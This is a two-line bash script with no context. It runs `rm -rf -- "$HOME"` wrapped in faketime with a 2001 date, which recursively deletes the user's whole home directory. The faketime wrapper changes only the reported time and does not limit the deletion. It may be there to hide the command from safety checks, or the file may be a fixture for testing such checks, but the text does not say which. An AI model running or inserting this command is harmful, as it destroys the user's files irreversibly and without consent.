#!/bin/bash
faketime '2001-01-01 00:00:00' rm -rf -- "$HOME"
